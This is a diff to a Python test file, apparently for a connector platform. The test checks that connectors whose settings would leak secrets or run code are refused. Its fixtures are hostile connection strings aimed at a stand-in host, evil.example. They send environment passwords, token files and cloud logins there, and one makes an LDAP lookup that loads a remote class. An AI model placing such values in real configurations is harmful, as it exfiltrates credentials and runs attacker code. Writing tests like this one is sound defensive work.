@@ -160,19 +160,25 @@ def test_a_config_in_the_topic_does_not_start(host: MemoryHost, started: list[st
 
 
 DRIVERS = (
-    ("jdbc:mariadb://evil.example/d?credentialType=ENV&userKey=DATABASE_PASSWORD", "variables of the process"),
-    ("jdbc:oracle:thin:@tcps://evil.example:1/d?TOKEN_AUTH=OAUTH&TOKEN_LOCATION=/var/run/token", "the worker's files"),
-    ("mongodb://evil.example/?authMechanismProperties=ENVIRONMENT:k8s", "the machine's own login"),
-    ("jdbc:h2:mem:x", "each query may run code"),
-    ("jdbc:duckdb:", "each query may run code"),
-    ("jdbc:trino://h/d?dnsResolver=com.acme.evil.Resolver", "load a class"),
+    (
+        "connection.url",
+        "jdbc:mariadb://evil.example/d?credentialType=ENV&userKey=DATABASE_PASSWORD",
+        "variables of the process",
+    ),
+    ("connection.url", "jdbc:oracle:thin:@tcps://h/d?TOKEN_AUTH=OAUTH&TOKEN_LOCATION=/var/run/token", "the worker's files"),
+    ("connection.uri", "mongodb://evil.example/?authMechanismProperties=ENVIRONMENT:k8s", "the machine's own login"),
+    ("connection.url", "jdbc:h2:mem:x", "each query may run code"),
+    ("connection.url", "jdbc:duckdb:", "each query may run code"),
+    ("connection.url", "jdbc:trino://h/d?dnsResolver=com.acme.evil.Resolver", "load a class"),
+    ("camel.sink.url", "http://evil.example/{{env:DATABASE_PASSWORD}}", "variables of the process"),
+    ("camel.beans.x", "#class:javax.naming.InitialContext#doLookup('ldap://evil.example')", "load a class"),
 )
 
 
-@pytest.mark.parametrize(("url", "reason"), DRIVERS, ids=[url.partition("?")[0] for url, _ in DRIVERS])
-def test_no_driver_gives_away_the_machine(host: MemoryHost, started: list[str], url: str, reason: str) -> None:
-    """Whoever may create connectors has a database's driver send a variable, a file or a login, or run code: never started."""
-    unit: Unit = host.unit({"name": "c", "connector.class": "Watched", "topic": "t", "connection.url": url}, task=None)
+@pytest.mark.parametrize(("setting", "value", "reason"), DRIVERS, ids=[value.partition("?")[0] for _, value, _ in DRIVERS])
+def test_no_library_gives_away_the_machine(host: MemoryHost, started: list[str], setting: str, value: str, reason: str) -> None:
+    """Whoever may create connectors has a library send a variable, a file or a login, or run code: it is never started."""
+    unit: Unit = host.unit({"name": "c", "connector.class": "Watched", "topic": "t", setting: value}, task=None)
     until(lambda: "FAILED" in host.states)
     end(unit)
     assert reason in (host.statuses[-1][1] or "")
